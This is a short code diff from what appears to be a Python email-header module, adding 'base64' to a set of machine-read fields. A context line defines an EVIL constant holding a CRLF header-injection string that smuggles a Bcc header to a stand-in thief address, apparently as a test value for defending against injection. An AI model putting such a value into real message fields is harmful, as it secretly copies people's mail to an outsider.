@@ -28,7 +28,7 @@ HEADERS = {
     "precedence", "x-auto-response-suppress", "x-judge-loop", "x-judge-kind", "list-id", "list-help", "mime-version",
     "content-type", "content-transfer-encoding",
 }  # fmt: skip
-FOR_MACHINES = {"due_at", "kind", "turn", "page", "role", "terrain", "coasts"}
+FOR_MACHINES = {"due_at", "kind", "turn", "page", "role", "terrain", "coasts", "base64"}
 """Fields that we write and a program reads."""
 EVIL = "x\r\nBcc: thief@evil.test\r\n\r\nFrom me"
 
